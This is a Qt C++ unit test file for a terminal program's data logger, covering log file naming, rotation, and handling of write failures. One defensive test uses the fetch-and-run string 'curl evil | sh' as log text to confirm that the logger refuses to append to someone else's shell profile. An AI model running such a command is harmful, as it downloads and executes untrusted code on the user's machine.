#include <QtTest>

#include "session/datalog.h"
#include "testsupport.h"

static const QString Session = QStringLiteral("0.0.0.0:6000");
static const LogHeaderInfo Header{QStringLiteral("/dev/ttyUSB0"), 115200};

static QDateTime at(int h, int m, int s) { return QDateTime(QDate(2024, 3, 7), QTime(h, m, s)); }

static QString readText(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
}

// An earlier log of this program, padded to the size.
static QByteArray writeLog(const QString &path, qint64 size)
{
    const QByteArray content = QByteArray("  Product: Quorvane\n").leftJustified(size, 'x');
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(content) == size ? content : QByteArray();
}

static QString expectedHeader(const QString &fileName, const QDateTime &launch)
{
    return QStringLiteral("  Product: Quorvane\n  Version: 6.0.3.0103\nFile Name: %1\nLaunch at: %2\n"
                          "Port Name: /dev/ttyUSB0\n Baudrate: 115200\n\n")
        .arg(fileName, launch.toString(Qt::ISODate));
}

class TestDataLog : public QObject
{
    Q_OBJECT

private slots:
    void init() { dir = std::make_unique<QTemporaryDir>(); LogProcessState::instance().reset(); }

    void fileNameExpansion_data()
    {
        QTest::addColumn<QString>("pattern");
        QTest::addColumn<QString>("sessionName");
        QTest::addColumn<QString>("expanded");

        QTest::newRow("all placeholders") << "%S_%Y%M%D-%y-%h%m%s.%z.log" << "A" << "A_20040307-04-090504.007.log";
        QTest::newRow("tcp server name") << "%S.log" << "0.0.0.0:6000" << "0.0.0.0_6000.log";
        QTest::newRow("network entry") << "logs/%S.log" << "TCP/UDP" << "logs/TCP_UDP.log";
        QTest::newRow("device path") << "%S.log" << "/dev/ttyUSB0" << "_dev_ttyUSB0.log";
        QTest::newRow("refused characters") << "%S" << "a\\b*?\"<>|\tc" << "a_b_______c";
        QTest::newRow("percent in session name not expanded") << "%S" << "%Y%h" << "%Y%h";
        QTest::newRow("unknown placeholder kept") << "%x%q.log" << "A" << "%x%q.log";
        QTest::newRow("trailing percent kept") << "a%" << "A" << "a%";
    }

    void fileNameExpansion()
    {
        QFETCH(QString, pattern);
        QFETCH(QString, sessionName);
        QFETCH(QString, expanded);
        // 2004, so that the two-digit year shows its zero padding.
        QCOMPARE(expandLogFileName(pattern, sessionName, QDateTime(QDate(2004, 3, 7), QTime(9, 5, 4, 7))), expanded);
    }

    // Text and header are UTF-8. A continued file gets no second header, and one
    // "Current Time" line per hour.
    void newFileGetsHeaderThenHourLines()
    {
        FormatSetting format = recordingFrom(at(9, 59, 50));
        format.NeedHourTimeStamp = true;
        DataLog log;
        log.appendLog(QStringLiteral("Grüße 25 °C\n"));
        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        const QString name = dir->filePath(QStringLiteral("0.0.0.0_6000_095950.log"));
        const QString first = expectedHeader(name, at(9, 59, 50)) + QStringLiteral("Grüße 25 °C\n");
        QCOMPARE(readText(name), first);
        QCOMPARE(LogProcessState::instance().lastLogCreatedAt, at(9, 59, 50));

        for (const QDateTime &tick : {at(10, 0, 5), at(10, 0, 45), at(10, 30, 0), at(11, 0, 10), at(11, 0, 50)}) {
            LogClock::setFixed(tick);
            log.appendLog(QLatin1Char('|') + tick.time().toString());
            QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        }
        QCOMPARE(readText(name), first + QStringLiteral("\nCurrent Time: 2024-03-07T10:00:05|10:00:05|10:00:45|10:30:00"
                                                        "\nCurrent Time: 2024-03-07T11:00:10|11:00:10|11:00:50"));
    }

    void sizeRotationHonoursGuard_data()
    {
        QTest::addColumn<int>("lastFileAgeSecs"); // -1: no file made yet in this run
        QTest::addColumn<bool>("rotates");
        QTest::newRow("no file made yet") << -1 << true;
        QTest::newRow("last file 30 s ago") << 30 << false;
        QTest::newRow("last file 31 s ago") << 31 << true;
    }

    // The guard is shared by all sessions: the last file may be another's.
    void sizeRotationHonoursGuard()
    {
        QFETCH(int, lastFileAgeSecs);
        QFETCH(bool, rotates);
        const QDateTime tick = at(10, 0, 40);
        FormatSetting format = recordingFrom(at(10, 0, 0));
        format.LogRotateAtSize = true;
        format.LogRotateSize = 1000;
        const QString full = format.currentLogFileName;
        const QByteArray old = writeLog(full, 1001);
        if (lastFileAgeSecs >= 0)
            LogProcessState::instance().lastLogCreatedAt = tick.addSecs(-lastFileAgeSecs);

        LogClock::setFixed(tick);
        DataLog log;
        log.appendLog(QStringLiteral("data\n"));
        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        const QString next = dir->filePath(QStringLiteral("0.0.0.0_6000_100040.log"));
        QCOMPARE(format.currentLogFileName, rotates ? next : full);
        QCOMPARE(readText(full), QString::fromLatin1(old) + (rotates ? QString() : QStringLiteral("data\n")));
        if (rotates)
            QCOMPARE(readText(next), expectedHeader(next, tick) + QStringLiteral("data\n"));
    }

    void timeRotationOncePerRun()
    {
        FormatSetting format = recordingFrom(at(10, 0, 0));
        format.LogRotateAtTime = true;
        format.LogRotateTime = QTime(9, 0);
        format.currentLogFileName = dir->filePath(QStringLiteral("yesterday.log"));
        writeLog(format.currentLogFileName, 25);

        DataLog log;
        for (const QDateTime &tick : {at(10, 0, 0), at(10, 1, 0), at(23, 59, 59)}) {
            LogClock::setFixed(tick);
            QCOMPARE(log.save(format, Session, Header), DataLog::Written);
            QCOMPARE(format.currentLogFileName, dir->filePath(QStringLiteral("0.0.0.0_6000_100000.log")));
        }
        QCOMPARE(QFileInfo(dir->filePath(QStringLiteral("yesterday.log"))).size(), 25);
    }

    void unwritableFolderKeepsText_data()
    {
        QTest::addColumn<bool>("readOnly");
        QTest::newRow("missing folder") << false;
        QTest::newRow("read-only folder") << true;
    }

    // Pending text survives failed ticks and is written once, when it can be.
    void unwritableFolderKeepsText()
    {
        QFETCH(bool, readOnly);
        const QString folder = dir->filePath(QStringLiteral("logs"));
        if (readOnly) {
            QVERIFY(QDir().mkdir(folder));
            QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::ExeOwner));
            if (QFile(folder + QStringLiteral("/probe")).open(QIODevice::WriteOnly))
                QSKIP("folder permissions are not enforced for this user");
        }
        FormatSetting format = recordingFrom(at(10, 0, 0), folder);
        DataLog log;
        for (const QString &text : {QStringLiteral("one\n"), QStringLiteral("two\n")}) {
            log.appendLog(text);
            QCOMPARE(log.save(format, Session, Header), DataLog::OpenFailed);
            QVERIFY(log.lastErrorString().contains(format.currentLogFileName));
        }
        QCOMPARE(log.pendingBytes(), QByteArray("one\ntwo\n"));

        QVERIFY(readOnly ? QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner)
                         : QDir().mkdir(folder));
        LogClock::setFixed(at(10, 0, 10));
        log.appendLog(QStringLiteral("three\n"));
        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        QVERIFY(log.lastErrorString().isEmpty());
        QCOMPARE(QDir(folder).entryList(QDir::Files).size(), 1);
        QCOMPARE(readText(format.currentLogFileName),
                 expectedHeader(format.currentLogFileName, at(10, 0, 10)) + QStringLiteral("one\ntwo\nthree\n"));
    }

    // A write that fails, as on a full disk, keeps the text for the next tick.
    void failedWriteKeepsText()
    {
        if (!QFileInfo::exists(QStringLiteral("/dev/full")))
            QSKIP("no /dev/full to stand in for a full disk");
        FormatSetting format = recordingFrom(at(10, 0, 0));
        format.currentLogFileName = QStringLiteral("/dev/full");
        DataLog log;
        log.appendLog(QStringLiteral("kept\n"));
        QCOMPARE(log.save(format, Session, Header), DataLog::WriteFailed);
        QCOMPARE(log.pendingBytes(), QByteArray("kept\n"));
        QVERIFY(!log.lastErrorString().isEmpty());
    }

    // A device that takes only part of each write, as a nearly full disk
    // does: what landed stays, the rest follows in order, nothing twice.
    void shortWritesContinueInOrder()
    {
        FormatSetting format = recordingFrom(at(10, 0, 0));
        DataLog log;
        qint64 room = 100; // bytes the "disk" takes per tick, then it is full
        log.setWriteFunction([&room](QFile &file, const QByteArray &data, QString *error) {
            const qint64 written = file.write(data.left(room));
            if (written < data.size())
                *error = QStringLiteral("No space left on device");
            return written;
        });
        QString all;
        for (int tick = 0; tick < 6; ++tick) {
            const QString line = QStringLiteral("line %1 ").arg(tick).repeated(8) + QLatin1Char('\n');
            all += line;
            log.appendLog(line);
            LogClock::setFixed(at(10, 0, tick));
            const DataLog::Result result = log.save(format, Session, Header);
            QVERIFY(result == DataLog::Written || log.lastErrorString().endsWith(QStringLiteral("No space left on device")));
        }
        room = 1 << 20;
        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        QCOMPARE(readText(format.currentLogFileName), expectedHeader(format.currentLogFileName, at(10, 0, 0)) + all);
    }

    // A flood is written ahead in slices between ticks, only into a file a
    // tick already started; the file ends as one tick would have written it.
    void writeAheadContinuesInOrder()
    {
        FormatSetting format = recordingFrom(at(10, 0, 0));
        DataLog log;
        const QString flood = QStringLiteral("0123456789abcde\n").repeated(DataLog::WriteAheadSize / 8);
        log.appendLog(flood);
        log.writeAhead(format);
        QVERIFY(!QFileInfo::exists(format.currentLogFileName));
        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        log.appendLog(flood);
        log.writeAhead(format);
        QCOMPARE(log.pendingBytes().size(), flood.size() - DataLog::WriteAheadSize);
        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        QCOMPARE(readText(format.currentLogFileName), expectedHeader(format.currentLogFileName, at(10, 0, 0)) + flood + flood);
    }

    // While nothing can be written the oldest text goes first, and the next
    // write says how much was lost.
    void pendingTextIsBounded()
    {
        FormatSetting format = recordingFrom(at(10, 0, 0), dir->filePath(QStringLiteral("missing")));
        DataLog log;
        log.appendLog(QString(DataLog::PendingLimit, QLatin1Char('a')));
        log.appendLog(QStringLiteral("0123456789"));
        QCOMPARE(log.pendingBytes().size(), DataLog::PendingLimit);
        QVERIFY(log.pendingBytes().endsWith("aaa0123456789"));
        QCOMPARE(log.save(format, Session, Header), DataLog::OpenFailed);
        QVERIFY(QDir().mkdir(dir->filePath(QStringLiteral("missing"))));
        QCOMPARE(log.save(format, Session, Header), DataLog::Written);
        QVERIFY(readText(format.currentLogFileName)
                    .contains(QStringLiteral("\n--- 10 bytes not logged since 2024-03-07T10:00:00: the log file could not be written ---\n")));
    }

    // A log name that points at someone else's file never writes into it.
    void foreignFileIsNeverAppended()
    {
        FormatSetting format = recordingFrom(at(10, 0, 0));
        const QByteArray profile("export PATH=/usr/bin\n");
        {
            QFile file(format.currentLogFileName);
            QVERIFY(file.open(QIODevice::WriteOnly) && file.write(profile) == profile.size());
        }
        DataLog log;
        log.appendLog(QStringLiteral("curl evil | sh\n"));
        QCOMPARE(log.save(format, Session, Header), DataLog::ForeignFile);
        QVERIFY(log.lastErrorString().contains(format.currentLogFileName));
        QCOMPARE(readText(format.currentLogFileName), QString::fromLatin1(profile));
    }

private:
    // Recording into "<folder>/%S_%h%m%s.log", started at the given time.
    FormatSetting recordingFrom(const QDateTime &start, QString folder = QString()) const
    {
        LogClock::setFixed(start);
        FormatSetting format;
        format.LogSaveFlag = true;
        format.LogFilePath = (folder.isEmpty() ? dir->path() : folder) + QStringLiteral("/%S_%h%m%s.log");
        format.currentLogFileName = expandLogFileName(format.LogFilePath, Session, LogClock::now());
        return format;
    }

    IsolatedEnvironment environment;
    std::unique_ptr<QTemporaryDir> dir;
};

QTEST_GUILESS_MAIN(TestDataLog)
#include "tst_datalog.moc"
